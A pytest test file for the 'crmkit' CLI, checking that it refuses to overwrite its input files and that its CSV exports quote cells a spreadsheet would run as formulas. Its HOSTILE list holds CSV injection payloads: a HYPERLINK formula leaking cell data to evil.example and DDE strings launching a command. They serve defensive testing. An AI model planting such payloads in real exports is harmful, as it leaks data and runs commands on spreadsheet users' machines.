"""The ``crmkit`` command never destroys its input, and writes spreadsheet-safe files (issue #20).

Each test runs the real command in a subprocess.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3+cmd|' /C calc'!A0"]


def crmkit(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1"}
    return subprocess.run([sys.executable, "-m", "crmkit.cli", *map(str, args)], cwd=cwd,
                          capture_output=True, text=True, env=env, timeout=300, check=False)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """tx.csv (hostile ids among ordinary ones, three purchases each) and fb.csv."""
    rng = np.random.default_rng(3)
    ids = [*HOSTILE, *(f"c{i:03d}" for i in range(36))]
    rows = [(c, f"2024-0{m}-{d:02d}", float(rng.integers(5, 90)))
            for c in ids for m, d in ((1, 5), (3, int(rng.integers(1, 28))), (5, 20))]
    pd.DataFrame(rows, columns=["customer_id", "date", "amount"]).to_csv(
        tmp_path / "tx.csv", index=False)
    pd.DataFrame({"customer_id": ids[4:10], "date": "2024-04-01", "kind": "nps",
                  "score": 7}).to_csv(tmp_path / "fb.csv", index=False)
    return tmp_path


def _refused(run: subprocess.CompletedProcess[str], says: str) -> None:
    assert run.returncode == 2, run.stderr
    assert run.stderr.startswith("crmkit: error: ") and says in run.stderr, run.stderr
    assert run.stderr.count("\n") == 1, "one line"
    assert run.stdout == ""


def test_outputs_that_are_inputs_are_refused_and_inputs_survive(folder: Path) -> None:
    tx, fb = folder / "tx.csv", folder / "fb.csv"
    before = {p: p.read_bytes() for p in (tx, fb)}
    (folder / "link.csv").symlink_to(tx)
    os.link(fb, folder / "hard.csv")
    _refused(crmkit("summarize", "tx.csv", "--out", "tx.csv", cwd=folder),
             "is the input FILE tx.csv: refusing to overwrite an input")
    _refused(crmkit("summarize", "tx.csv", "--out", "./sub/../link.csv", cwd=folder),
             "is the input FILE")
    _refused(crmkit("assess", tx, "--records", f"feedback={fb}", "--out", "hard.csv",
                    cwd=folder), "is the input --records feedback")
    _refused(crmkit("report", tx, "--out", "r.csv", cwd=folder),
             "--out r.csv: must be an HTML page: .html; got '.csv'")
    assert not (folder / "r.csv").exists()
    assert {p: p.read_bytes() for p in (tx, fb)} == before


def test_fit_and_report_refuse_the_input_too(folder: Path) -> None:
    tx = folder / "tx.csv"
    before = tx.read_bytes()
    _refused(crmkit("fit", tx, "--out", tx, cwd=folder), "must be JSON: .json")
    (folder / "tx.html").symlink_to(tx)
    _refused(crmkit("report", tx, "--out", "tx.html", cwd=folder), "is the input FILE")
    assert tx.read_bytes() == before


def test_exports_are_spreadsheet_safe_unless_raw(folder: Path) -> None:
    run = crmkit("summarize", "tx.csv", "--out", "view.csv", "--records", "feedback=fb.csv",
                 "--as-of", "2024-05-20T23:30-05:00", cwd=folder)
    assert run.returncode == 0, run.stderr
    assert "analysis date (as of)       2024-05-20" in run.stdout  # the day as written
    assert "quoted 4 text cells that a spreadsheet would run as formulas" in run.stdout
    view = pd.read_csv(folder / "view.csv", dtype={"customer_id": str})
    assert sorted(view["customer_id"])[:4] == sorted("'" + h for h in HOSTILE)
    assert len(view) == 40 and (view["revenue"] > 0).all()
    raw = crmkit("assess", "tx.csv", "--out", "a.csv", "--raw", cwd=folder)
    assert raw.returncode == 0, raw.stderr
    ids = pd.read_csv(folder / "a.csv", dtype={"customer_id": str})["customer_id"]
    assert set(HOSTILE) <= set(ids)
    assert "quoted" not in raw.stdout


def test_records_that_do_not_join_are_reported(folder: Path) -> None:
    fb = pd.read_csv(folder / "fb.csv")
    fb.loc[len(fb)] = ["ghost", "2024-04-02", "nps", 3]
    fb.to_csv(folder / "fb2.csv", index=False)
    run = crmkit("summarize", "tx.csv", "--records", "feedback=fb2.csv", cwd=folder)
    assert run.returncode == 0, run.stderr
    assert ("note: 1 row does not join: 1 feedback row names no known customer (customer_id e.g. "
            "'ghost'; lines [8]); they are kept in the records but add nothing to the customer "
            "view") in run.stdout
    padded = fb.assign(customer_id=fb["customer_id"].str.replace("c0", "c", regex=False))
    padded.to_csv(folder / "fb3.csv", index=False)
    run = crmkit("summarize", "tx.csv", "--records", "feedback=fb3.csv", cwd=folder)
    _refused(run, "fb3.csv, column 'customer_id': ids are written differently")
